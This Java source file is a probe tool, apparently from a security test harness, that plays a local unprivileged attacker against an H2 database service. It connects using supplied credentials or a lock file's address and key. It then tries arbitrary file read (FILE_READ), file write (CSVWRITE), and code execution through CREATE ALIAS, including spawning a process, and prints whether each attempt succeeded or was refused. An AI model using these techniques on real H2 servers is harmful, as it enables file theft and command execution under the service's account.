import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Properties;

/**
 * The localaccount case's attacker: run as an unprivileged local account with only the H2 jar on
 * its class path (java -cp h2.jar H2Probe.java ...). Tries each connection it is given; on the
 * first one that succeeds, tries what an H2 admin can do to the service's account: read a file
 * (FILE_READ), write one (CSVWRITE), and run code (CREATE ALIAS for a JDK method, and one compiled
 * from source).
 *
 * <p>Arguments: the file to read, the file to write, then groups of four: label, JDBC URL (or
 * "lockfile:" and the path of a db.lock.db to take the address and key from), user, password
 * ("<absent>" leaves the property out). Prints one tab-separated line per attempt: label,
 * action, ok|refused, detail.
 */
public class H2Probe {

  private static final String ABSENT = "<absent>";
  private static final String LOCK_FILE = "lockfile:";

  public static void main(String[] args) throws Exception {
    String readPath = args[0];
    String writePath = args[1];
    DriverManager.setLoginTimeout(15);
    boolean exploited = false;
    for (int i = 2; i + 3 < args.length; i += 4) {
      String label = args[i];
      Properties credentials = new Properties();
      if (!args[i + 2].equals(ABSENT)) {
        credentials.setProperty("user", args[i + 2]);
      }
      if (!args[i + 3].equals(ABSENT)) {
        credentials.setProperty("password", args[i + 3]);
      }
      String url = args[i + 1];
      if (url.startsWith(LOCK_FILE)) {
        try {
          url = fromLockFile(Path.of(url.substring(LOCK_FILE.length())));
        } catch (java.io.IOException e) {
          print(label, "connect", false, "cannot read the lock file: " + e);
          continue;
        }
      }
      try (Connection c = DriverManager.getConnection(url, credentials)) {
        print(label, "connect", true, "connected as " + c.getMetaData().getUserName());
        if (!exploited) {
          exploited = true;
          exploit(c, label, readPath, writePath);
        }
      } catch (SQLException e) {
        print(label, "connect", false, e.getMessage());
      }
    }
  }

  /** What H2's own AUTO_SERVER client does: the server address and key from the lock file. */
  private static String fromLockFile(Path lock) throws java.io.IOException {
    Properties p = new Properties();
    try (var in = Files.newInputStream(lock)) {
      p.load(in);
    }
    return "jdbc:h2:tcp://" + p.getProperty("server") + "/" + p.getProperty("id");
  }

  private static void exploit(Connection c, String label, String readPath, String writePath) {
    query(c, label, "file_read", "SELECT CAST(FILE_READ('" + readPath + "', NULL) AS VARCHAR)");
    try {
      update(c, "CALL CSVWRITE('" + writePath + "', 'SELECT 1 AS X')");
      print(label, "csvwrite", Files.exists(Path.of(writePath)), "wrote " + writePath);
    } catch (SQLException e) {
      print(label, "csvwrite", false, e.getMessage());
    }
    try {
      update(c, "CREATE ALIAS REL_PROBE_PROP FOR 'java.lang.System.getProperty'");
      query(c, label, "alias_jdk_method", "CALL REL_PROBE_PROP('user.name')");
      update(c, "DROP ALIAS REL_PROBE_PROP");
    } catch (SQLException e) {
      print(label, "alias_jdk_method", false, e.getMessage());
    }
    try {
      update(
          c,
          "CREATE ALIAS REL_PROBE_EXEC AS $$ String run() throws Exception { return new"
              + " String(new ProcessBuilder(\"id\", \"-un\").start().getInputStream()"
              + ".readAllBytes()).trim(); } $$");
      query(c, label, "alias_source_exec", "CALL REL_PROBE_EXEC()");
      update(c, "DROP ALIAS REL_PROBE_EXEC");
    } catch (SQLException e) {
      print(label, "alias_source_exec", false, e.getMessage());
    }
  }

  private static void update(Connection c, String sql) throws SQLException {
    try (Statement s = c.createStatement()) {
      s.execute(sql);
    }
  }

  private static void query(Connection c, String label, String action, String sql) {
    try (Statement s = c.createStatement();
        ResultSet r = s.executeQuery(sql)) {
      r.next();
      String value = r.getString(1);
      print(label, action, value != null, "returned " + (value == null ? "null" : value.strip()));
    } catch (SQLException e) {
      print(label, action, false, e.getMessage());
    }
  }

  private static void print(String label, String action, boolean ok, String detail) {
    String flat = String.valueOf(detail).replaceAll("[\\t\\r\\n]+", " ");
    System.out.println(
        label
            + "\t"
            + action
            + "\t"
            + (ok ? "ok" : "refused")
            + "\t"
            + flat.substring(0, Math.min(flat.length(), 300)));
  }
}
